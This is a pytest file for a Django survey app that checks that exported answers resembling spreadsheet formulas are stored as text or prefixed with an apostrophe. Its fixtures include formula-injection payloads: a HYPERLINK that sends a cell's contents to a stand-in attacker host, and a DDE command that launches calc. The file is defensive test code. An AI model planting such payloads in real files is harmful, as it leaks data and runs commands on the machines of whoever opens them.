"""Survey exports are safe to open: an answer that starts like a formula is written as text
(chiso.core.safe_cells), in the XLSX workbook, the CSV archive, the streamed CSV and the
respondents' table; numbers stay numbers."""

import csv
import io
import zipfile
from types import SimpleNamespace

import pytest
from django.test import Client
from openpyxl import load_workbook

from chiso.accounts.models import Role
from chiso.frameworks.models import Framework
from chiso.surveys.fieldwork import indicators
from chiso.surveys.fieldwork.exports import csv_stream, survey_export

from tests.surveys.conftest import ddci_answers

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
OTHERS = ["+1-800 CALL", "@SUM(1+1)", "-2+3"]  # a leading tab is trimmed from answers


@pytest.fixture
def poisoned(ddci_survey, store):
    for i, text in enumerate([LEAK, *OTHERS]):
        store(ddci_survey, ddci_answers(gop_y=text), key=f"k{i}", duration=300)
    return ddci_survey


def _csv_text_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_xlsx_export_writes_an_answer_starting_with_equals_as_text(poisoned, tmp_path):
    target = survey_export(survey=poisoned, fmt="xlsx", target=tmp_path / "x.xlsx", include_text=True)
    sheet = load_workbook(target)["responses"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert LEAK in texts and set(OTHERS) <= texts  # as typed, as text
    assert any(c.data_type == "n" for c in cells)  # and numbers stay numbers


def test_csv_archive_and_stream_put_formula_like_answers_behind_an_apostrophe(poisoned, tmp_path):
    target = survey_export(survey=poisoned, fmt="csv", target=tmp_path / "x.zip", include_text=True)
    with zipfile.ZipFile(target) as archive:
        archived = _csv_text_cells(archive.read("responses.csv").decode("utf-8-sig"))
    streamed = _csv_text_cells(b"".join(csv_stream(poisoned, include_text=True)).decode("utf-8-sig"))
    for cells in (archived, streamed):
        assert "'" + LEAK in cells and LEAK not in cells
        assert {"'" + t for t in OTHERS} <= set(cells)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert all(c[:1] != "-" or c.lstrip("-").replace(".", "").isdigit() for c in cells)


def test_the_respondents_table_writes_its_cells_through_the_same_rule(ddci_survey, make_user, monkeypatch):
    framework = Framework.objects.create(code="DDCI-X", name_vi="DDCI thử")
    table = SimpleNamespace(respondents=[[1, "=cmd|' /C calc'!A0", "i1", -2.5, 1.0], [2, "S-TC", "-i2", "-3", 1.0]])
    monkeypatch.setattr(indicators, "indicator_table", lambda **kwargs: table)
    client = Client()
    client.force_login(make_user("phantich", Role.ANALYST))
    response = client.get(f"/surveys/{ddci_survey.code}/indicators/respondents.csv", {"framework": framework.code})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["1", "'=cmd|' /C calc'!A0", "i1", "-2.5", "1.0"]
    assert rows[2] == ["2", "S-TC", "'-i2", "-3", "1.0"]  # a negative number stays a number
